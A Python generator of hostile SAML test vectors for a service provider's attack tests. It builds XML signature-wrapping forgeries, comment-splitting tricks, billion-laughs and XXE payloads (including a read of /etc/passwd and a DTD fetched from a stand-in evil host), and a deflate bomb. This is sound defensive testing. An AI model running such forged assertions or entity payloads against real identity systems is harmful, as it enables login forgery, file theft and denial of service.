#!/usr/bin/python3
"""Build the hostile-input vectors of spec ATTACKS.md for handlers/attacks_test.go.

Every vector starts from a message signed (and, where the case needs it, encrypted) by xmlsec1
with the TEST IdP key in this folder -- never by eidsp's own Go code -- and is then changed the way
the attack says. The manifest (manifest.json) names each case, the ATTACKS.md heading it belongs
to, the binding it travels on, the outcome the SP must produce and what `xmlsec1 --verify` says of
every signature in it (the differential check).

Run with Debian's interpreter (the python3 on PATH may be another one):
    /usr/bin/python3 testdata/attacks/gen.py
Needs xmlsec1 and openssl. Keys are made once with openssl when missing and then kept: RSA
PKCS#1 v1.5 signatures are deterministic, so the signed vectors are byte-for-byte reproducible
from the committed keys; the encrypted ones carry a fresh session key on every run.

The values baked into the vectors match the test fixture: the clock stands at NOW and the
fixture's random source makes the AuthnRequest ID "_" + "a1"*20 and the ArtifactResolve ID
"_" + "a2"*20 (see README.md).
"""
import base64
import json
import os
import re
import subprocess
import sys
import tempfile
import urllib.parse
import zlib
from xml.dom import minidom

HERE = os.path.dirname(os.path.abspath(__file__))
VEC = os.path.join(HERE, "vectors")

NOW = "2026-03-02T10:00:00Z"
ISSUED = "2026-03-02T09:59:55Z"
AUTHN_INSTANT = "2026-03-02T09:59:50Z"
VALID_UNTIL = "2026-03-02T10:05:00Z"
FUTURE = "2026-03-02T10:10:00Z"   # beyond the 180 s skew
PAST = "2026-03-02T09:50:00Z"     # expired even with skew
TOO_OLD = "2026-03-02T09:55:00Z"  # older than max_response_age 60 s + skew 180 s

AUTHN_ID = "_" + "a1" * 20    # the fixture's first NewID
RESOLVE_ID = "_" + "a2" * 20  # its second (the ArtifactResolve at the ACS)
OTHER_ID = "_" + "b1" * 20    # a pending login of another browser
UNKNOWN_ID = "_" + "ee" * 20  # never issued

SP = "https://sp.attacks.test"
SP_ENTITY = SP + "/saml/metadata"
ACS = SP + "/saml/acs"
IDP_ENTITY = "https://idp.attacks.test/idp"
EVIL = "https://evil.attacks.test"

PERSON = "20914695016"   # synthetic test person (Tenor), PROFILE.md section 8
VICTIM = "03015561903"   # another valid number the attacker would like to be
BAD_CHECKSUM = "45678901234"

NS_P = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_A = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_XENC = "http://www.w3.org/2001/04/xmlenc#"
NS_SOAP = "http://schemas.xmlsoap.org/soap/envelope/"

RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
RSA_MD5 = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
MD5 = "http://www.w3.org/2001/04/xmldsig-more#md5"
EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"
EXC_COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
ENV = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XPATH2 = "http://www.w3.org/2002/06/xmldsig-filter2"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"

ID_ATTRS = ["--id-attr:ID", NS_P + ":Response", "--id-attr:ID", NS_A + ":Assertion",
            "--id-attr:ID", NS_P + ":ArtifactResponse"]

H_XSW = "Signature wrapping (Somorovsky et al., USENIX Security 2012; SAMLRaider numbering)"
H_COMMENTS = "Comments and text splitting [CVE-2017-11427..11430, CVE-2018-0489]"
H_DOCS = "Documents that must not be parsed further"
H_KEYS = "Signature and key faking"
H_RECIPIENT = "Recipient confusion (each alone)"
H_MULTI = "More than one assertion [crewjam CVE-2022-41912]"
H_REPLAY = "Replay"
H_WEB = "Web layer"
HEADINGS = [H_XSW, H_COMMENTS, H_DOCS, H_KEYS, H_RECIPIENT, H_MULTI, H_REPLAY, H_WEB]

TEST_KEY_NOTE = ("# TEST KEY -- eidsp testdata/attacks only (made by gen.py with openssl).\n"
                 "# Publicly known: never trust it anywhere but in these tests.\n")


def key(name):
    return os.path.join(HERE, name + ".key")


def crt(name):
    return os.path.join(HERE, name + ".crt")


def make_keys():
    """The test IdP, the test SP, an attacker, and an attacker certificate that copies the IdP's
    subject and issuer names. Made once; kept in the repository so that vectors reproduce."""
    subjects = {"idp": "/O=eidsp test/CN=eidsp attacks test IdP", "sp": "/O=eidsp test/CN=eidsp attacks test SP",
                "attacker": "/O=evil/CN=attacker", "forged": "/O=eidsp test/CN=eidsp attacks test IdP"}
    for name, subj in subjects.items():
        if os.path.exists(key(name)) and os.path.exists(crt(name)):
            continue
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-sha256", "-days", "36500",
                        "-subj", subj, "-keyout", key(name), "-out", crt(name)], check=True, capture_output=True)
        for path in (key(name), crt(name)):
            with open(path) as f:
                body = f.read()
            with open(path, "w") as f:
                f.write(TEST_KEY_NOTE + body)


def pem_body(path):
    with open(path) as f:
        lines = [l.strip() for l in f if l.strip() and not l.startswith("#")]
    return "".join(l for l in lines if not l.startswith("-----"))


# ---------------------------------------------------------------------------------------------
# Templates


def sig_tmpl(sig=RSA_SHA256, dig=SHA256, c14n=EXC, transforms=None, uri="", extra_refs="", keyinfo=True,
             ref_uri=None):
    """A ds:Signature template for xmlsec1 --sign; ref_uri overrides '#' + the element's ID."""
    if transforms is None:
        transforms = [f'<ds:Transform Algorithm="{ENV}"/>', f'<ds:Transform Algorithm="{EXC}"/>']
    ki = '<ds:KeyInfo><ds:X509Data/></ds:KeyInfo>' if keyinfo else ""
    return (f'<ds:Signature xmlns:ds="{NS_DS}"><ds:SignedInfo>'
            f'<ds:CanonicalizationMethod Algorithm="{c14n}"/><ds:SignatureMethod Algorithm="{sig}"/>'
            f'<ds:Reference URI="{{REF}}"><ds:Transforms>{"".join(transforms)}</ds:Transforms>'
            f'<ds:DigestMethod Algorithm="{dig}"/><ds:DigestValue/></ds:Reference>{extra_refs}'
            f'</ds:SignedInfo><ds:SignatureValue/>{ki}</ds:Signature>'), ref_uri


def fill(tmpl, elem_id):
    t, ref_uri = tmpl
    return t.replace("{REF}", ("#" + elem_id) if ref_uri is None else ref_uri)


def base(case, **kw):
    """The parameters of a valid answer to AUTHN_ID; kw changes one of them (each alone)."""
    p = dict(
        resp_id="_r-" + case, assert_id="_a-" + case, irt=AUTHN_ID, scd_irt=AUTHN_ID, destination=ACS,
        resp_issuer=IDP_ENTITY, assert_issuer=IDP_ENTITY, audience=SP_ENTITY, recipient=ACS, spnq=SP_ENTITY,
        cond_nb=ISSUED, cond_noa=VALID_UNTIL, scd_noa=VALID_UNTIL, resp_ii=ISSUED, assert_ii=ISSUED,
        method="urn:oasis:names:tc:SAML:2.0:cm:bearer", authn_statements=1, session_index="_s-" + case,
        status="urn:oasis:names:tc:SAML:2.0:status:Success", nameid="_nameid-" + case, uid=PERSON,
        advice="", extra_attrs="", level="4",
    )
    p.update(kw)
    return p


def assertion_tmpl(p, sig):
    authn = (f'<saml:AuthnStatement AuthnInstant="{AUTHN_INSTANT}"'
             + (f' SessionIndex="{p["session_index"]}"' if p["session_index"] else "")
             + '><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:SmartcardPKI'
               '</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>')
    attrs = "".join(f'<saml:Attribute Name="{n}"><saml:AttributeValue>{v}</saml:AttributeValue></saml:Attribute>'
                    for n, v in [("uid", p["uid"]), ("SecurityLevel", p["level"]), ("AuthMethod", "Buypass"),
                                 ("Culture", "nb"), ("Instrument", "ips:BPSC")])
    return (f'<saml:Assertion xmlns:saml="{NS_A}" ID="{p["assert_id"]}" Version="2.0" IssueInstant="{p["assert_ii"]}">'
            f'<saml:Issuer>{p["assert_issuer"]}</saml:Issuer>'
            + (fill(sig, p["assert_id"]) if sig else "")
            + f'<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient"'
              f' SPNameQualifier="{p["spnq"]}">{p["nameid"]}</saml:NameID>'
              f'<saml:SubjectConfirmation Method="{p["method"]}"><saml:SubjectConfirmationData'
              f' InResponseTo="{p["scd_irt"]}" NotOnOrAfter="{p["scd_noa"]}" Recipient="{p["recipient"]}"/>'
              f'</saml:SubjectConfirmation></saml:Subject>'
              f'<saml:Conditions NotBefore="{p["cond_nb"]}" NotOnOrAfter="{p["cond_noa"]}">'
              f'<saml:AudienceRestriction><saml:Audience>{p["audience"]}</saml:Audience></saml:AudienceRestriction>'
              f'</saml:Conditions>{p["advice"]}'
            + authn * p["authn_statements"]
            + f'<saml:AttributeStatement>{attrs}{p["extra_attrs"]}</saml:AttributeStatement></saml:Assertion>')


def response_tmpl(p, assertion, sig, extensions=""):
    dest = f' Destination="{p["destination"]}"' if p["destination"] is not None else ""
    return (f'<samlp:Response xmlns:samlp="{NS_P}" xmlns:saml="{NS_A}" ID="{p["resp_id"]}" Version="2.0"'
            f' IssueInstant="{p["resp_ii"]}"{dest} InResponseTo="{p["irt"]}">'
            f'<saml:Issuer>{p["resp_issuer"]}</saml:Issuer>'
            + (fill(sig, p["resp_id"]) if sig else "") + extensions
            + f'<samlp:Status><samlp:StatusCode Value="{p["status"]}"/></samlp:Status>{assertion}</samlp:Response>')


def artifact_tmpl(case, response, sig, irt=RESOLVE_ID):
    ar_id = "_ar-" + case
    return (f'<soap:Envelope xmlns:soap="{NS_SOAP}"><soap:Body>'
            f'<samlp:ArtifactResponse xmlns:samlp="{NS_P}" xmlns:saml="{NS_A}" ID="{ar_id}" Version="2.0"'
            f' IssueInstant="{ISSUED}" InResponseTo="{irt}"><saml:Issuer>{IDP_ENTITY}</saml:Issuer>'
            + (fill(sig, ar_id) if sig else "")
            + '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
            + response + '</samlp:ArtifactResponse></soap:Body></soap:Envelope>')


# ---------------------------------------------------------------------------------------------
# xmlsec1


def xmlsec1(args, data):
    with tempfile.TemporaryDirectory() as d:
        inp = os.path.join(d, "in.xml")
        out = os.path.join(d, "out.xml")
        with open(inp, "w") as f:
            f.write(data)
        r = subprocess.run(["xmlsec1"] + args + ["--output", out, inp], capture_output=True, text=True, timeout=60)
        if r.returncode != 0:
            raise RuntimeError("xmlsec1 %s: %s" % (" ".join(args[:1]), r.stderr.strip()[-400:]))
        with open(out) as f:
            return strip_decl(f.read())


def strip_decl(s):
    return re.sub(r'^<\?xml[^>]*\?>\s*', "", s).strip()


def sign(tmpl, signer="idp", hmac_key=None):
    """Sign the first ds:Signature template of tmpl in document order."""
    if hmac_key:
        args = ["--sign", "--hmackey", hmac_key]
    else:
        args = ["--sign", "--privkey-pem", key(signer) + "," + crt(signer)]
    return xmlsec1(args + ID_ATTRS, tmpl)


def encrypt(doc):
    """Encrypt the first saml:Assertion of doc (which sits inside saml:EncryptedAssertion) for the
    SP's certificate: aes128-cbc, rsa-oaep-mgf1p, as ID-porten did."""
    tmpl = (f'<xenc:EncryptedData xmlns:xenc="{NS_XENC}" xmlns:ds="{NS_DS}" Type="{NS_XENC}Element">'
            f'<xenc:EncryptionMethod Algorithm="{NS_XENC}aes128-cbc"/><ds:KeyInfo><xenc:EncryptedKey>'
            f'<xenc:EncryptionMethod Algorithm="{NS_XENC}rsa-oaep-mgf1p"/>'
            f'<xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo>'
            f'<xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedData>')
    with tempfile.TemporaryDirectory() as d:
        data = os.path.join(d, "data.xml")
        with open(data, "w") as f:
            f.write(doc)
        return xmlsec1(["--encrypt", "--pubkey-cert-pem", crt("sp"), "--session-key", "aes-128",
                        "--xml-data", data, "--node-name", NS_A + ":Assertion"], tmpl)


def verify_all(doc):
    """What xmlsec1 --verify says of each ds:Signature in doc, in document order, trusting the IdP
    certificate only: 'valid', 'invalid' or 'error' (xmlsec1 could not process the document)."""
    n = len(re.findall(r"<(?:[A-Za-z_][\w.-]*:)?Signature[\s>/]", doc))
    verdicts = []
    with tempfile.TemporaryDirectory() as d:
        inp = os.path.join(d, "in.xml")
        with open(inp, "w") as f:
            f.write(doc)
        for i in range(1, max(n, 1) + 1):
            xp = f"(//*[local-name()='Signature' and namespace-uri()='{NS_DS}'])[{i}]"
            r = subprocess.run(["xmlsec1", "--verify", "--pubkey-cert-pem", crt("idp"), "--node-xpath", xp]
                               + ID_ATTRS + [inp], capture_output=True, text=True, timeout=60)
            # xmlsec1 prints OK, FAIL (the cryptography does not hold) or ERROR (it could not
            # process the document or find a key).
            out = (r.stdout + r.stderr).splitlines()
            if r.returncode == 0 and "OK" in out:
                verdicts.append("valid")
            elif "FAIL" in out:
                verdicts.append("invalid")
            else:
                verdicts.append("error")
    return verdicts


# ---------------------------------------------------------------------------------------------
# DOM helpers for the wrapping attacks (minidom keeps prefixes, comments and CDATA as written).


def dom(s):
    return minidom.parseString(s)


def ser(d):
    return d.documentElement.toxml()


def kids(el, local=None):
    return [c for c in el.childNodes if c.nodeType == c.ELEMENT_NODE and (local is None or c.localName == local)]


def find(d, local, nth=0):
    return d.getElementsByTagNameNS("*", local)[nth]


def signature_of(el):
    return kids(el, "Signature")[0]


def evil(el):
    """Change what the attacker wants: another person, another NameID."""
    for t in el.getElementsByTagNameNS(NS_A, "AttributeValue"):
        if t.firstChild and t.firstChild.nodeValue == PERSON:
            t.firstChild.nodeValue = VICTIM
    for t in el.getElementsByTagNameNS(NS_A, "NameID"):
        t.firstChild.nodeValue = "_evil-nameid"


def unsigned_clone(el):
    c = el.cloneNode(True)
    for s in kids(c, "Signature"):
        c.removeChild(s)
    return c


def xsw(doc_str, target, n):
    """SAMLRaider's XSW1..8 applied to the signed element `target` (local name, first in document
    order) of doc_str."""
    d = dom(doc_str)
    e = find(d, target)
    sig = signature_of(e)
    orig_id = e.getAttribute("ID")
    parent = e.parentNode
    if n in (1, 2):
        # The clone of the signed element (without its Signature) sits inside the Signature (1) or
        # right before it (2); the outer element gets a new ID and evil content.
        clone = unsigned_clone(e)
        e.setAttribute("ID", orig_id + "-evil")
        evil(e)
        if n == 1:
            sig.appendChild(clone)
        else:
            e.insertBefore(clone, sig)
    elif n == 3:
        c = unsigned_clone(e)
        c.setAttribute("ID", orig_id + "-evil")
        evil(c)
        parent.insertBefore(c, e)
    elif n == 4:
        c = unsigned_clone(e)
        c.setAttribute("ID", orig_id + "-evil")
        evil(c)
        parent.replaceChild(c, e)
        c.appendChild(e)
    elif n in (5, 6, 8):
        copy = unsigned_clone(e)
        e.setAttribute("ID", orig_id + "-evil")
        evil(e)
        if n == 5:
            parent.appendChild(copy)
        elif n == 6:
            sig.appendChild(copy)
        else:
            obj = d.createElementNS(NS_DS, "ds:Object")
            obj.appendChild(copy)
            sig.appendChild(obj)
    elif n == 7:
        c = unsigned_clone(e)
        evil(c)
        ext = d.createElementNS(NS_P, "samlp:Extensions")
        ext.setAttribute("xmlns:samlp", NS_P)
        ext.appendChild(c)
        if parent.nodeType == parent.DOCUMENT_NODE:
            raise ValueError("XSW7 needs a parent")
        parent.insertBefore(ext, e)
    return ser(d)


# ---------------------------------------------------------------------------------------------
# Builders


def signed_assertion(p, sig=None, signer="idp", hmac_key=None):
    return sign(assertion_tmpl(p, sig or sig_tmpl()), signer, hmac_key)


def post_vector(p, sign_response=True, sign_assertion=True, asig=None, rsig=None, signer="idp",
                encrypted=False, extensions=""):
    a = signed_assertion(p, asig, signer) if sign_assertion else assertion_tmpl(p, None)
    if encrypted:
        a = f'<saml:EncryptedAssertion>{a}</saml:EncryptedAssertion>'
    doc = response_tmpl(p, a, (rsig or sig_tmpl()) if sign_response else None, extensions)
    if encrypted:
        doc = encrypt(doc)
    if sign_response:
        doc = sign(doc, signer)
    return doc


def artifact_vector(case, p=None, sign_ar=True, response=None, irt=RESOLVE_ID, encrypted=False):
    if response is None:
        response = post_vector(p or base(case), sign_response=False, encrypted=encrypted)
    doc = artifact_tmpl(case, response, sig_tmpl() if sign_ar else None, irt)
    return sign(doc) if sign_ar else doc


MANIFEST = []

# Why the SP refuses a message although xmlsec1 accepts one of its signatures, by reason class.
WHY = {
    "signature": "the signature xmlsec1 checks is valid, but its shape or what it covers breaks the SP's rule "
                 "(one Reference to #ID of the element consumed, no duplicate IDs, signed assertion)",
    "assertion": "the signature is valid over one assertion; the Response carries another one next to it",
    "algorithm": "the signature is valid, but uses an algorithm or transform outside the SP's allow-list",
    "doctype": "xmlsec1 does not fetch the external DTD and verifies; the SP refuses any DOCTYPE before parsing",
    "malformed": "the signatures are valid; the document is not namespace-well-formed or not round-trip stable, "
                 "or the SOAP body does not hold exactly one ArtifactResponse with one Response",
    "too_large": "the signature is valid; the message exceeds the SP's size, element or depth limits",
    "audience": "authentic message for another SP", "recipient": "authentic message for another endpoint or method",
    "destination": "authentic message for another endpoint", "in_response_to": "authentic answer to another request",
    "issuer": "signed by the IdP's key but names another issuer", "time": "authentic but outside its validity window",
    "status": "authentic non-success answer that still carries an assertion",
    "attributes": "authentic, but the person is not acceptable here",
    "replay": "the same authentic message a second time", "pending_login": "the same authentic message, spent login",
}


def add(name, heading, binding, doc, expect, reason=None, profile=None, setup=None, note="", key_=None):
    """Record one case. expect: 'reject' (with the reason class of the log line) or 'accept'."""
    assert heading in HEADINGS, heading
    fname = None
    entry = {"name": name, "heading": heading, "binding": binding, "profile": profile or
             {"post": "post", "artifact": "art"}.get(binding, "post"), "expect": expect}
    if reason:
        entry["reason"] = reason
    if key_:
        entry["error_key"] = key_
    if setup:
        entry["setup"] = setup
    if doc is not None:
        fname = name.replace("/", "__") + (".query" if binding == "slo" else ".xml")
        with open(os.path.join(VEC, fname), "w") as f:
            f.write(doc)
        entry["file"] = "vectors/" + fname
        if binding != "slo" and "Signature" in doc:
            entry["xmlsec1"] = verify_all(doc)
            if expect == "reject" and "valid" in entry["xmlsec1"]:
                entry["differential"] = note or WHY[reason]
    if note:
        entry["note"] = note
    MANIFEST.append(entry)


def doctype(doc, kind):
    dt = {
        "billion-laughs": '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                          '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
                          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
                          '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
                          '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
                          '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
                          '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
                          '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
                          '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>',
        "external-entity": '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "parameter-entity": '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.attacks.test/evil.dtd"> %ext;]>',
    }[kind]
    use = {"billion-laughs": "&lol9;", "external-entity": "&xxe;", "parameter-entity": ""}[kind]
    if use:
        doc = doc.replace(f"<saml:AttributeValue>Buypass<", f"<saml:AttributeValue>Buypass{use}<", 1)
    return dt + doc


SLO = SP + "/saml/slo"


def logout_request(case, inner="", destination=SLO, doctype_=""):
    """An IdP-initiated LogoutRequest for the session the ok/post vector creates."""
    return (f'{doctype_}<samlp:LogoutRequest xmlns:samlp="{NS_P}" xmlns:saml="{NS_A}" ID="_lr-{case}" Version="2.0"'
            f' IssueInstant="{ISSUED}" Destination="{destination}" NotOnOrAfter="{VALID_UNTIL}">'
            f'<saml:Issuer>{IDP_ENTITY}</saml:Issuer>{inner}'
            f'<saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient">_nameid-ok-post</saml:NameID>'
            f'<samlp:SessionIndex>_s-ok-post</samlp:SessionIndex></samlp:LogoutRequest>')


def redirect_query(xml, signer="idp", sign_query=True, raw=None):
    """HTTP-Redirect binding (SAML bindings 3.4.4.1): DEFLATE, base64, URL-encode; the query
    signature (RSA-SHA256) made by openssl over SAMLRequest=...&SigAlg=..."""
    if raw is None:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        raw = c.compress(xml.encode()) + c.flush()
    q = "SAMLRequest=" + urllib.parse.quote(base64.b64encode(raw).decode(), safe="")
    if not sign_query:
        return q
    q += "&SigAlg=" + urllib.parse.quote(RSA_SHA256, safe="")
    r = subprocess.run(["openssl", "dgst", "-sha256", "-sign", key(signer)], input=q.encode(),
                       capture_output=True, check=True)
    return q + "&Signature=" + urllib.parse.quote(base64.b64encode(r.stdout).decode(), safe="")


def slo_cases():
    """The LogoutRequest family at /saml/slo (HTTP-Redirect, detached query signature)."""
    captured = signed_assertion(base("ok-post"))
    add("ok/slo-logout-request", H_XSW, "slo", redirect_query(logout_request("ok")), "accept", profile="post",
        note="positive control: the IdP's signed LogoutRequest ends the session")
    add("fail/slo-captured-assertion-in-unsigned-logoutrequest", H_XSW, "slo",
        redirect_query(logout_request("xsw-unsigned", inner=captured), sign_query=False), "reject", "signature",
        profile="post", note="samlify GHSA-63ch-w8pw-4mf2: the only signature is the captured Assertion's")
    add("fail/slo-captured-assertion-in-attacker-signed-logoutrequest", H_XSW, "slo",
        redirect_query(logout_request("xsw-attacker", inner=captured), signer="attacker"), "reject", "signature",
        profile="post")
    add("fail/slo-signed-logoutrequest-with-embedded-assertion", H_XSW, "slo",
        redirect_query(logout_request("xsw-embedded", inner=captured)), "reject", "malformed", profile="post",
        note="even with a valid query signature an embedded Assertion is refused, never read")
    add("fail/slo-unsigned-logoutrequest", H_KEYS, "slo", redirect_query(logout_request("unsigned"), sign_query=False),
        "reject", "signature", profile="post")
    add("fail/slo-destination-wrong", H_RECIPIENT, "slo",
        redirect_query(logout_request("dest", destination=EVIL + "/saml/slo")), "reject", "destination", profile="post")
    for kind in ("billion-laughs", "external-entity", "parameter-entity"):
        dt = doctype("<x/>", kind)[:-len("<x/>")]
        add(f"fail/slo-doctype-{kind}", H_DOCS, "slo", redirect_query(logout_request("dt", doctype_=dt)), "reject",
            "doctype", profile="post")
    bomb = logout_request("bomb", inner="<!--" + " " * (2 << 20) + "-->")
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = c.compress(bomb.encode()) + c.flush()
    assert len(raw) < 8192, len(raw)
    add("fail/slo-deflate-bomb", H_DOCS, "slo", redirect_query(None, raw=raw), "reject", "too_large", profile="post",
        note=f"{len(raw)} bytes deflated, {len(bomb)} inflated")
    add("fail/logout-post-without-csrf-token", H_WEB, "logout", None, "reject", "csrf", key_="bad_request",
        profile="post", note="a cross-site form POST to /logout must not end the session")


def main():
    make_keys()
    os.makedirs(VEC, exist_ok=True)
    for f in os.listdir(VEC):
        os.remove(os.path.join(VEC, f))

    # --- positive controls: the unmodified vector of each family is accepted ---------------
    ok_post = post_vector(base("ok-post"))
    add("ok/post-signed-response-and-assertion", H_XSW, "post", ok_post, "accept")
    ok_assert_only = post_vector(base("ok-assert"), sign_response=False)
    add("ok/post-signed-assertion-only", H_XSW, "post", ok_assert_only, "accept")
    ok_enc = post_vector(base("ok-enc"), sign_response=True, encrypted=True)
    add("ok/post-encrypted-assertion", H_KEYS, "post", ok_enc, "accept", profile="post-enc")
    ok_art = artifact_vector("ok-art")
    add("ok/artifact", H_XSW, "artifact", ok_art, "accept")
    add("ok/artifact-encrypted", H_KEYS, "artifact", artifact_vector("ok-art-enc", encrypted=True), "accept",
        profile="art-enc")
    add("ok/post-sha1-where-allowed", H_KEYS, "post",
        post_vector(base("ok-sha1"), asig=sig_tmpl(RSA_SHA1, SHA1), rsig=sig_tmpl(RSA_SHA1, SHA1)),
        "accept", profile="post-sha1")

    # --- signature wrapping ----------------------------------------------------------------
    why = "xmlsec1 verifies the signature, which still covers the original element; the SP consumes only that element"
    for n in (1, 2, 6, 8):
        add(f"fail/xsw{n}-response", H_XSW, "post", xsw(ok_post, "Response", n), "reject", "signature", note=why)
    for n in range(1, 9):
        add(f"fail/xsw{n}-assertion", H_XSW, "post", xsw(ok_assert_only, "Assertion", n), "reject",
            "signature" if n == 7 else "assertion", note=why)
    for n in range(1, 9):
        doc = xsw(ok_art, "ArtifactResponse", n) if n != 7 else None
        if n == 7:
            # XSW7 inside SOAP: the unsigned evil clone with the same ID waits in a SOAP Header.
            d = dom(ok_art)
            ar = find(d, "ArtifactResponse")
            c = unsigned_clone(ar)
            evil(c)
            hdr = d.createElementNS(NS_SOAP, "soap:Header")
            hdr.appendChild(c)
            d.documentElement.insertBefore(hdr, d.documentElement.firstChild)
            doc = ser(d)
        # Every copy of the ArtifactResponse carries the inner Response's ID again: duplicate IDs.
        reason = "signature"
        add(f"fail/xsw{n}-artifactresponse", H_XSW, "artifact", doc, "reject", reason, note=why)

    # --- comments and text splitting -------------------------------------------------------
    p = base("cmt-nameid", nameid="user@user.com.evil.com")
    v = post_vector(p).replace("user@user.com.evil.com<", "user@user.com<!---->.evil.com<", 1)
    add("ok/comment-in-nameid-read-whole", H_COMMENTS, "post", v, "accept",
        setup={"want_nameid": "user@user.com.evil.com"},
        note="exclusive c14n drops the comment, so the signature holds; the SP must read the whole value")
    p = base("cdata-nameid", nameid="user@user.com.evil.com")
    v = post_vector(p).replace("user@user.com.evil.com<", "user@user.com<![CDATA[.evil.com]]><", 1)
    add("ok/cdata-in-nameid-read-whole", H_COMMENTS, "post", v, "accept", setup={"want_nameid": "user@user.com.evil.com"},
        note="c14n turns CDATA into text; the SP must read the whole value")
    v = post_vector(base("cmt-uid")).replace(f">{PERSON}<", f">{PERSON[:6]}<!---->{PERSON[6:]}<", 1)
    add("ok/comment-in-uid-read-whole", H_COMMENTS, "post", v, "accept", setup={"want_nid": PERSON})
    v = post_vector(base("cdata-uid")).replace(f">{PERSON}<", f">{PERSON[:6]}<![CDATA[{PERSON[6:]}]]><", 1)
    add("ok/cdata-in-uid-read-whole", H_COMMENTS, "post", v, "accept", setup={"want_nid": PERSON})
    v = post_vector(base("cmt-digest"), sign_response=False)
    v = re.sub(r"(<ds:DigestValue>)(....)", r"\1\2<!---->", v, count=1)
    add("fail/comment-in-digestvalue", H_COMMENTS, "post", v, "reject", "signature",
        note="xmlsec1 reads the DigestValue around the comment")
    two_refs = sig_tmpl(extra_refs=f'<ds:Reference URI="#_s-extra"><ds:Transforms><ds:Transform Algorithm="{EXC}"/>'
                                   f'</ds:Transforms><ds:DigestMethod Algorithm="{SHA256}"/><ds:DigestValue/></ds:Reference>')
    p = base("two-refs", advice=f'<saml:Advice><saml:AssertionIDRef>_s-extra</saml:AssertionIDRef></saml:Advice>')
    # The second Reference points at an element xmlsec1 can find by ID: sign an Assertion whose
    # second Reference names the Assertion itself again.
    two_refs = sig_tmpl(extra_refs=f'<ds:Reference URI="#_a-two-refs"><ds:Transforms><ds:Transform Algorithm="{ENV}"/>'
                                   f'<ds:Transform Algorithm="{EXC}"/></ds:Transforms><ds:DigestMethod Algorithm="{SHA256}"/>'
                                   f'<ds:DigestValue/></ds:Reference>')
    add("fail/two-references", H_COMMENTS, "post",
        post_vector(base("two-refs"), sign_response=False, asig=two_refs), "reject", "signature")

    # --- documents that must not be parsed further -----------------------------------------
    for kind in ("billion-laughs", "external-entity", "parameter-entity"):
        add(f"fail/doctype-{kind}-post", H_DOCS, "post", doctype(post_vector(base("dt-" + kind)), kind), "reject", "doctype")
        add(f"fail/doctype-{kind}-soap", H_DOCS, "artifact", doctype(artifact_vector("dta-" + kind), kind), "reject",
            "doctype")
    good = post_vector(base("rt"), sign_response=False)
    unstable = {
        "colon-in-element-name": good.replace("<samlp:Status>", "<samlp:Status><samlp:x:y/>", 1),
        "empty-prefix-attribute": good.replace("<samlp:Status>", '<samlp:Status :ID="_x">', 1),
        "xmlns-xmlns": good.replace("<samlp:Status>", '<samlp:Status xmlns:xmlns="urn:x">', 1),
    }
    for kind, v in unstable.items():
        add(f"fail/roundtrip-unstable-{kind}", H_DOCS, "post", v, "reject", "malformed")
    add("fail/oversized-post-body", H_DOCS, "post", ok_post, "reject", "too_large", key_="bad_request",
        setup={"pad_form_to": 300 << 10, "pending_survives": True},
        note="the body is refused before RelayState is read, so the pending login is not spent")
    add("fail/oversized-soap-response", H_DOCS, "artifact", ok_art, "reject", "too_large",
        setup={"pad_soap_to": 300 << 10})
    big = "".join(f'<saml:Attribute Name="x{i}"><saml:AttributeValue>v</saml:AttributeValue></saml:Attribute>'
                  for i in range(600))
    add("fail/1200-elements-with-signature", H_DOCS, "post",
        post_vector(base("big", extra_attrs=big)), "reject", "too_large")
    deep = "<samlp:Extensions>" + "<x:d xmlns:x=\"urn:deep\">" * 60 + "</x:d>" * 60 + "</samlp:Extensions>"
    add("fail/deep-tree-with-signature", H_DOCS, "post",
        post_vector(base("deep"), extensions=deep), "reject", "too_large")
